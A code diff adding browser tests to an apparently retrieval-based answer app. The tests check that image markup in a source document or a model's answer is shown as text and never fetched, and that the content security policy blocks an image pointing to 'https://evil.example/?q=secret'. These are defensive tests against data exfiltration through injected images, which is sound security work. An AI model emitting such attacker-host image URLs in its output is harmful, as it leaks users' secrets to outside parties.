@@ -15,6 +15,7 @@ from tests.browser.conftest import Open, Visit
 from tests.browser.relay import Relay
 from tests.conftest import Serve, Service
 from tests.fakes.provider import Behaviour, ProviderFake
+from tests.test_prompt import IMAGES
 
 ENGLISH = "Within how many days can I return a product?"
 JAPANESE = "返品はいつまでできますか。"
@@ -440,6 +441,32 @@ async def test_markdown_is_shown_and_nothing_in_it_is_fetched(visit: Visit):
     assert await visit.page.title() == "Kotae 答え"
     assert visit.complaints == []
     assert visit.foreign_requests == []
+
+
+@pytest.mark.parametrize("image", IMAGES)
+async def test_an_image_in_a_document_and_in_an_answer_is_never_loaded(visit: Visit, image: str):
+    """Whatever the way it is written: a model that repeats it makes the page show its characters, and fetch nothing."""
+    source = PASSAGE | {"title": image, "text": image}
+    await script_streams(visit.page, start(context=[source]) + delta(1, f"As it says: {image} [1]") + done(2, sources=[source]))
+    await visit.ask(ENGLISH)
+    await visit.page.click("#current .cite")
+
+    assert await visit.page.locator("#current :is(img, picture, svg, image, source, object, iframe, a)").count() == 0
+    for shown in ("#current .text", "#current .source[open] blockquote"):
+        assert "evil.example" in await visit.text(shown)
+    assert visit.complaints == []
+    assert visit.foreign_requests == []
+
+
+async def test_the_policy_refuses_an_image_from_elsewhere(visit: Visit):
+    """Even an image that found its way into the page is not fetched: the browser itself refuses it."""
+    refused = await visit.page.evaluate(
+        """() => new Promise((resolve) => {
+          document.addEventListener("securitypolicyviolation", (event) => resolve([event.effectiveDirective, event.blockedURI]));
+          document.body.append(Object.assign(new Image(), { src: "https://evil.example/?q=secret" }));
+        })"""
+    )
+    assert refused == ["img-src", "https://evil.example/?q=secret"]
 
 
 async def test_a_citation_marks_the_sentence_that_supports_it(visit: Visit):
